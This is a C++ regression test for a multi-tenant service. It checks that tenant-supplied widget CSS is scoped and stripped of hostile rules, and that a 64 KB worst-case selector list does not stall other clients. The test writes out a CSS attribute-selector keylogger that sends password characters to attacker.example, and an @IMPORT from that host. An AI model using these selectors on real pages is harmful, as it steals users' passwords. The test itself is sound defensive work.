// Finding 11: the operator's CSS for a tenant was served as typed in /<apiId>/widgets.css, which
// every shop page loads: `input[type=password][value^=a]{background:url(https://attacker/a)}`
// read the shop's password field a character at a time. Any page (API ID only) fetches that
// file; it must hold the tenant's CSS scoped to the widgets, never raw, also when an older svc
// stored hostile CSS as large as allowed, and a loop of requests for 64 KB of the parser's worst
// case (a selector list that grows 7-fold when scoped) must not keep anyone else waiting.
#include <doctest/doctest.h>

#include <atomic>
#include <thread>
#include <vector>

#include "hostile/HostileSupport.hpp"
#include "store/SqliteDatabase.hpp"

using namespace svc::hostile;

namespace {

void storeCssAsAnOlderSvcDid(const std::string& dataDir, const std::string& apiId, const std::string& css) {
    auto db = svc::SqliteDatabase::open(dataDir + "/svc.sqlite3");
    REQUIRE(db);
    auto statement = (*db)->prepare(
        "INSERT INTO widget_settings(tenant_id, css, updated_at) SELECT id, ?, 0 FROM tenants WHERE api_id = ? "
        "ON CONFLICT(tenant_id) DO UPDATE SET css = excluded.css");
    REQUIRE(statement);
    statement->bind(1, css).bind(2, apiId);
    REQUIRE(statement->run());
}

std::string widgetsCss(int port, const std::string& apiId, const std::string& from) {
    RawClient client(port, from);
    REQUIRE(client.connected());
    client.send("GET /" + apiId + "/widgets.css HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    return client.receiveAnswers(1);
}

}  // namespace

TEST_CASE("TenantCss: widgets.css holds stored hostile CSS scoped, never raw; a request loop for 64 KB of the worst case") {
    AttackWindow window;
    auto& server = window.server();
    const std::string apiId = server.tenantB().apiId;

    // Saving it is refused, with the place.
    std::string finding = "input[type=password][value^=a] { background: url(https://attacker.example/a) }\n";
    std::ofstream(server.dataDir() + "/../finding.css") << finding;
    svc::test::ChildProcess cli({"/bin/sh", "-c", "exec \"$0\" tenant widgets --data-dir \"$1\" --api-id \"$2\" --css-file \"$3\" 2>&1",
                                 SVC_SERVER_BINARY, server.dataDir(), apiId, server.dataDir() + "/../finding.css"},
                                server.dataDir() + "/../finding.out");
    CHECK(cli.wait() != 0);
    CHECK(readText(server.dataDir() + "/../finding.out").find("--css-file: line 1, column 46: url(\"https://attacker.example/a\") leaves svc") !=
          std::string::npos);

    // Stored anyway by an older svc: the leak for every first character, and a 64 KB selector list.
    std::string stored;
    for (char c : std::string("abcdefghijklmnopqrstuvwxyz0123456789")) {
        stored += std::string("input[type=password][value^=") + c + "] { background: url(https://attacker.example/" + c + ") }\n";
    }
    stored += "@IMPORT url(https://attacker.example/x.css);\n";
    while (stored.size() < 64 * 1024 - 20) stored += "a,";
    stored += "b { color: red }\n";
    storeCssAsAnOlderSvcDid(server.dataDir(), apiId, stored);

    // The server keeps a tenant's settings for 2 s: until then an earlier answer may come.
    std::string answer;
    for (int attempt = 0; attempt < 40; ++attempt) {
        answer = widgetsCss(server.port(), apiId, "127.0.0.2");
        if (answer.find(".svc-widget a, .svc-widget a") != std::string::npos) break;
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    REQUIRE(answer.rfind("HTTP/1.1 200", 0) == 0);
    CHECK(answer.find(".svc-widget a, .svc-widget a") != std::string::npos);
    CHECK(answer.find("attacker.example") == std::string::npos);
    CHECK(answer.find("@IMPORT") == std::string::npos);
    CHECK(answer.find("password") == std::string::npos);

    // Four clients, 25 requests each.
    std::atomic<int> served{0};
    std::atomic<int> raw{0};
    auto started = std::chrono::steady_clock::now();
    std::vector<std::thread> attackers;
    for (int client = 0; client < 4; ++client) {
        attackers.emplace_back([&, client] {
            for (int i = 0; i < 25; ++i) {
                std::string got = widgetsCss(server.port(), apiId, "127.0.0." + std::to_string(3 + client));
                if (got.rfind("HTTP/1.1 200", 0) == 0) ++served;
                if (got.find("attacker.example") != std::string::npos) ++raw;
            }
        });
    }
    for (auto& attacker : attackers) attacker.join();
    double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    MESSAGE("100 requests for " << answer.size() / 1024 << " KiB of scoped widgets.css in " << seconds << " s");
    CHECK(served == 100);
    CHECK(raw == 0);
    window.requireOthersServed();

    storeCssAsAnOlderSvcDid(server.dataDir(), apiId, "");
}
